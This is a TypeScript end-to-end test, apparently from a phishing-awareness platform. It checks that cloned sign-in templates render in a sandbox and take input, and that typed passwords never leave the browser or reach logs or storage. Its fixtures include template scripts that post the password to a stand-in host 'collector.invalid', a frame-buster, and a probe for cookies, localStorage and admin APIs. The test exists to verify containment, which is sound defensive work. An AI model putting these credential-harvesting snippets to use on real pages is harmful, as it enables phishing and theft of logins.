/**
 * Cloned landing pages render as their authors meant: the operator's template is served as the
 * top-level /phish document under a sandboxing policy. Three pages that a frame would leave blank
 * or broken — a body hidden until its own script shows it, a frame-buster, a stylesheet that
 * cannot load — must be seen (pixels, not only the DOM), take typing, and move on with field
 * names only; the typed password reaches no request, log line or database byte, and nothing the
 * template runs reaches the app's storage, cookies or API.
 */
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MINIMAL_CAMPAIGN, seedCampaign } from '@server/test/campaign-fixtures';
import { browserAvailable, launchBrowser, newContext } from './support/browser';
import { dumpDatabase, eventsOf, recipientByRid } from './support/journey';
import { startTestServer, type TestServer } from './support/server';

/**
 * Reports, in visible text, what the template's script could reach of the app: its cookie, its
 * localStorage, and the operator API and campaign API with credentials.
 */
const PROBE = `<p id="probe">probing</p><script>
(function () {
  var out = [];
  function leaked(value) { return String(value).indexOf('app-secret') === -1 ? 'empty' : 'LEAKED'; }
  try { out.push('cookie:' + leaked(document.cookie)); } catch (e) { out.push('cookie:denied'); }
  try { out.push('storage:' + leaked(localStorage.getItem('probe'))); } catch (e) { out.push('storage:denied'); }
  function call(label, url) {
    return fetch(url, { credentials: 'include' }).then(
      function (r) { return r.text().then(function (t) { return label + ':answered ' + r.status + ' ' + leaked(t); }); },
      function () { return label + ':failed'; }
    );
  }
  Promise.all([call('admin', '/api/admin/campaigns'), call('campaign', '/api/campaign/' + new URLSearchParams(location.search).get('rid'))]).then(function (r) {
    document.getElementById('probe').textContent = out.concat(r).join(' ');
  });
})();
</script>`;

const FORM = `<form class="card" action="https://collector.invalid/login" method="post">
  <h1>Sign in to Contoso</h1>
  <label for="u">Email</label><input id="u" name="username" type="text">
  <label for="p">Password</label><input id="p" name="password" type="password">
  <input type="hidden" name="csrf" value="token-1">
  <button id="go" type="submit">Sign in</button>
</form>`;

const STYLE = `<style>
  body { margin: 0; background: #fff; font: 16px sans-serif; }
  .card { width: 340px; margin: 40px auto; padding: 24px; background: #0b3d91; color: #fff; }
  .card input { display: block; width: 100%; margin: 8px 0 16px; padding: 8px; }
  .card button { background: #f2a900; border: 0; padding: 10px 24px; }
</style>`;

const page = (head: string, body: string) =>
  `<!DOCTYPE html><html lang="en"><head><title>Contoso sign-in</title>${STYLE}${head}</head><body>${body}</body></html>`;

/** The three cloned pages, each also submitting its own way. */
const TEMPLATES = {
  // Hidden until its own script shows it; its own submit handler would post the password.
  'hidden body': page(
    '<style>body{visibility:hidden}</style>',
    `${FORM}${PROBE}<script>
      setTimeout(function () { document.body.style.visibility = 'visible'; }, 200);
      document.querySelector('form').addEventListener('submit', function (e) {
        e.preventDefault();
        fetch('https://collector.invalid/xhr', { method: 'POST', body: document.getElementById('p').value });
      });
    </script>`,
  ),
  // The OWASP frame-buster: shown only as the top window, else it takes the top window over.
  'frame-buster': page(
    '<style id="antiClickjack">body{display:none !important;}</style>',
    `${FORM}${PROBE}<script>
      if (self === top) { var a = document.getElementById('antiClickjack'); a.parentNode.removeChild(a); }
      else { top.location = self.location; }
    </script>`,
  ),
  // A stylesheet from the cloned site that cannot load; the button submits by form.submit().
  'unreachable stylesheet': page(
    '<link rel="stylesheet" href="https://cdn.invalid/site.css">',
    `${FORM.replace('id="go" type="submit"', 'id="go" type="button"')}${PROBE}<script>
      document.getElementById('go').addEventListener('click', function () {
        var f = document.querySelector('form');
        f.action = 'https://collector.invalid/js?pw=' + encodeURIComponent(document.getElementById('p').value);
        f.submit();
      });
    </script>`,
  ),
};

interface Seen {
  requests: string[];
}

/** Everything each request carried: URL, every header, body. */
function recordEverything(context: BrowserContext): Seen {
  const seen: Seen = { requests: [] };
  context.on('request', (request) => {
    const body = request.postData() ?? '';
    seen.requests.push(`${request.method()} ${request.url()} ${body}`);
    void request.allHeaders().then(
      (headers) => seen.requests.push(`headers of ${request.url()}: ${JSON.stringify(headers)}`),
      () => undefined,
    );
  });
  return seen;
}

describe.runIf(browserAvailable)('cloned landing pages, top-level and sandboxed, in Chromium', () => {
  let server: TestServer;
  let browser: Browser;
  let decoder: Page;

  beforeAll(async () => {
    server = await startTestServer();
    browser = await launchBrowser();
    decoder = await (await browser.newContext()).newPage();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  /** Share of an element's screenshot pixels that are not the white page background. */
  async function inkOf(target: Page, selector: string): Promise<number> {
    const box = await target.locator(selector).boundingBox();
    if (!box || box.width < 1 || box.height < 1) return 0;
    const png = (await target.screenshot({ clip: box })).toString('base64');
    return decoder.evaluate(async (data) => {
      const image = new Image();
      image.src = `data:image/png;base64,${data}`;
      await image.decode();
      const canvas = document.createElement('canvas');
      canvas.width = image.width;
      canvas.height = image.height;
      const ctx = canvas.getContext('2d');
      if (!ctx) throw new Error('no 2d canvas');
      ctx.drawImage(image, 0, 0);
      const pixels = ctx.getImageData(0, 0, image.width, image.height).data;
      let ink = 0;
      for (let i = 0; i < pixels.length; i += 4) {
        if (pixels[i]! < 230 || pixels[i + 1]! < 230 || pixels[i + 2]! < 230) ink += 1;
      }
      return ink / (pixels.length / 4);
    }, png);
  }

  it.each(Object.entries(TEMPLATES))(
    'the %s page is seen, takes typing and moves on',
    async (label, html) => {
      const secret = `Pw-${randomBytes(9).toString('hex')}`;
      const { recipients } = await seedCampaign(server.database.db, {
        ...MINIMAL_CAMPAIGN,
        phishing: { template_html: html },
        navigation: ['awareness'],
      });
      const rid = recipients[0]!.rid;
      const context = await newContext(browser);
      const seen = recordEverything(context);
      await context.route('https://*.invalid/**', (route) => route.abort());
      const tab = await context.newPage();

      // The app's origin holds a cookie and a stored item first.
      await tab.goto(`${server.url}/default`);
      await tab.evaluate(() => {
        document.cookie = 'probe=app-secret-cookie; path=/';
        localStorage.setItem('probe', 'app-secret-storage');
      });

      const response = await tab.goto(`${server.url}/phish?rid=${rid}`);
      expect(response?.headers()['content-security-policy'], label).toContain(
        'sandbox allow-scripts allow-forms',
      );
      // Seen: the form area is drawn, not only present in the DOM.
      await expect.poll(() => inkOf(tab, 'form'), { timeout: 5000 }).toBeGreaterThan(0.3);
      // Nothing of the app reached: storage and cookie denied, both APIs unreachable.
      await expect
        .poll(() => tab.locator('#probe').innerText())
        .toBe('cookie:denied storage:denied admin:failed campaign:failed');

      // A person types and submits.
      await tab.locator('#u').click();
      await tab.keyboard.type('pat@contoso.example');
      await tab.locator('#p').click();
      await tab.keyboard.type(secret);
      expect(await tab.locator('#p').inputValue()).toBe(secret);
      await tab.locator('#go').click();

      // The next step, with the submission taken off the address.
      await expect.poll(() => new URL(tab.url()).pathname).toBe('/phish/awareness');
      await expect.poll(() => tab.locator('h1').first().innerText()).not.toBe('');
      await expect.poll(() => new URL(tab.url()).search).toBe(`?rid=${rid}`);
      const recipient = await recipientByRid(server.database, rid);
      await expect
        .poll(
          async () =>
            (await eventsOf(server.database, recipient.id)).find((e) => e.type === 'submitted')?.details,
        )
        .toBe(JSON.stringify({ fields: ['username', 'password'] }));

      // A reload records the submission no second time.
      await tab.reload();
      await expect.poll(() => tab.locator('h1').first().innerText()).not.toBe('');
      const attempts = await server.database.db
        .selectFrom('journey_attempts')
        .select('kind')
        .where('recipient_id', '=', recipient.id)
        .execute();
      expect(attempts.map((a) => a.kind)).toEqual(['submit']);

      // The page reported the trusted gesture by its beacon (whatever the beacon's answer).
      expect(
        seen.requests.some((r) => r.includes(`/api/beacon/${rid}?g=pointer&wd=1&`) && r.includes('mv=1')),
      ).toBe(true);
      // The typed password went nowhere: no request (URL, header, body), log line or stored byte.
      await context.close();
      expect(seen.requests.filter((r) => r.includes(secret))).toEqual([]);
      expect(seen.requests.filter((r) => r.includes('collector.invalid'))).toEqual([]);
      expect(server.logs.filter((line) => line.includes(secret))).toEqual([]);
      expect(await dumpDatabase(server.database)).not.toContain(secret);
      const dir = server.config.dataDir;
      for (const file of readdirSync(dir).filter((name) => name.startsWith('e2e.db'))) {
        expect(readFileSync(path.join(dir, file)).includes(secret), file).toBe(false);
      }
    },
  );
});
